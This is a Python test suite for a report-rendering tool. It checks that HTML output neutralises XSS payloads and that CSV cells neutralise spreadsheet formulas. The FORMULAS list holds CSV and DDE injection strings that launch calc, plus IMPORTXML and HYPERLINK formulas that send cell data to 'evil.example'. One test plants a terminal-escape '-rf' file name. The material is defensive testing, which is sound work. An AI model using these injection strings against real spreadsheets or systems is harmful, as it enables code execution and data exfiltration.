"""Words made to run as code stay words: in the page, in every field, and in every table."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import html5lib
import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st

from rashomon import api
from rashomon.render import cells, dossier
from rashomon.settings import Settings
from tests.conftest import REPOSITORY
from tests.render.dossier.test_page import hostile
from tests.render.small import small_case

PAYLOADS = (Path(__file__).parent / "xss.txt").read_text(encoding="utf-8").splitlines()
_COUNTED = [
    "applet",
    "audio",
    "base",
    "body",
    "embed",
    "form",
    "frameset",
    "html",
    "iframe",
    "image",
    "img",
    "input",
    "isindex",
    "keygen",
    "layer",
    "link",
    "marquee",
    "math",
    "meta",
    "object",
    "script",
    "select",
    "source",
    "style",
    "svg",
    "template",
    "textarea",
    "title",
    "use",
    "video",
]


def by_lxml(page: str) -> list[tuple[str, dict[str, str]]]:
    tree = lxml.html.document_fromstring(page)
    return [
        (str(node.tag).lower(), dict(node.attrib))
        for node in tree.iter()
        if isinstance(node.tag, str)
    ]


def by_html5lib(page: str) -> list[tuple[str, dict[str, str]]]:
    """As browsers parse, misnested markup and all."""
    tree = html5lib.parse(page, treebuilder="lxml")
    return [
        (str(node.tag).rpartition("}")[2].lower(), {str(k): v for k, v in node.attrib.items()})
        for node in tree.iter()
        if isinstance(node.tag, str)
    ]


def counts(nodes: list[tuple[str, dict[str, str]]]) -> dict[str, int]:
    tags = [tag for tag, _ in nodes]
    return {tag: tags.count(tag) for tag in _COUNTED}


def check(page: str, allowed: dict[str, int], parse: Any) -> None:
    """The page has the elements of our own and no others that could run or load."""
    nodes = parse(page)
    assert counts(nodes) == allowed
    for _, attributes in nodes:
        for name, value in attributes.items():
            assert not name.lower().startswith("on"), (name, value)
            assert name.lower() not in ("style", "srcdoc", "formaction", "ping", "background")
            if name.lower().rpartition("}")[2] in ("href", "src", "action", "data", "poster"):
                assert value.startswith("#"), (name, value)


@pytest.fixture(scope="module")
def plain() -> dict[Any, dict[str, int]]:
    page = dossier.render(small_case())
    return {parse: counts(parse(page)) for parse in (by_lxml, by_html5lib)}


def test_there_are_more_than_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 100


@pytest.mark.parametrize("parse", [by_lxml, by_html5lib])
@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_a_payload_in_every_field_stays_words(
    number: int, parse: Any, plain: dict[Any, dict[str, int]]
) -> None:
    payload = PAYLOADS[number]
    check(dossier.render(hostile(small_case(), payload)), plain[parse], parse)


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> api.Report:
    """A case of reports with hostile text, title, outlet, author, address, name and places."""
    folder = tmp_path_factory.mktemp("hostile")
    given_ = folder / "reports"
    given_.mkdir()
    for number, payload in enumerate(PAYLOADS[::3]):
        name = re.sub(r"[/\x00\s]", "_", payload)[:60].strip(".") or "x"
        path = given_ / f"{number:03} {name} .txt"
        _, second, third = (PAYLOADS * 2)[3 * number : 3 * number + 3]
        path.write_text(
            f"{payload}\n\nTwo men died near {second} on Monday, {payload} said.\n\n"
            f"“{third},” said General {third}. The ministry {second} denied that 7 people died.\n",
            encoding="utf-8",
        )
        noted = {
            "title": payload,
            "publisher": payload,
            "author": payload,
            "url": payload,
            "date": "2026-05-04",
            "language": "en",
        }
        path.with_suffix(".json").write_text(json.dumps(noted), encoding="utf-8")
    outlines = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"name": payload, "aliases": [payload]},
                "geometry": {"type": "Point", "coordinates": [10.0, 10.0]},
            }
            for payload in PAYLOADS[:20]
        ],
    }
    (given_ / "places.geojson").write_text(json.dumps(outlines), encoding="utf-8")
    return api.report([given_], folder / "out", Settings(), title=PAYLOADS[0])


def test_a_case_of_hostile_reports_gives_a_page_of_words(written: api.Report) -> None:
    page = written.dossier.read_text(encoding="utf-8")
    assert len(written.case.documents) == len(PAYLOADS[::3])
    for parse in (by_lxml, by_html5lib):
        nodes = parse(page)
        found = counts(nodes)
        for tag in ("img", "iframe", "object", "embed", "base", "link", "video", "audio"):
            assert found[tag] == 0, tag
        # the page's own, and the controls that filter it
        assert (found["script"], found["style"]) == (1, 1)
        assert found["form"] <= 1
        check(page, found, parse)
    text = lxml.html.document_fromstring(page).text_content()
    for payload in PAYLOADS[::3]:
        assert " ".join(payload.split()) in " ".join(text.split())


def test_no_cell_of_a_hostile_case_is_a_formula(written: api.Report) -> None:
    with written.claims.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "@")), cell
            assert cells.safe(cells.plain(cell)) == cell


FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "'=1",
    "''=1",
    "＝1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//evil.example","x")',
    '=IMPORTXML(CONCAT("//evil.example/?",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A-3+3+cmd|' /C calc'!D2",
    ";=1",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_words_and_can_be_had_back(formula: str) -> None:
    cell = cells.safe(formula)
    assert cells.plain(cell) == formula
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    out = io.StringIO(newline="")
    csv.writer(out).writerow([cell])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline="")))[0] == cell


@given(st.text(alphabet=st.sampled_from("'=+-@＝ \t\n\ufeffa1")) | st.text())
def test_every_cell_can_be_had_back(words: str) -> None:
    assert cells.plain(cells.safe(words)) == words


def test_every_table_that_we_write_goes_through_safe_cells() -> None:
    """A module of the package that writes CSV neutralises its cells."""
    for path in (REPOSITORY / "src" / "rashomon").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(?:writer|DictWriter)", text):
            assert "cells" in text, f"{path.name} writes CSV without rashomon.render.cells"


def test_names_of_files_are_no_options_and_no_control_codes_for_the_terminal(
    tmp_path: Path,
) -> None:
    (tmp_path / "\x1b[31m-rf.txt").write_text("")
    made = subprocess.run(
        [sys.executable, "-m", "rashomon", "report", str(tmp_path), "-o", str(tmp_path / "o")],
        capture_output=True,
        timeout=300,
        check=False,
    )
    assert made.returncode == 1
    assert b"\x1b[31m" not in made.stderr + made.stdout
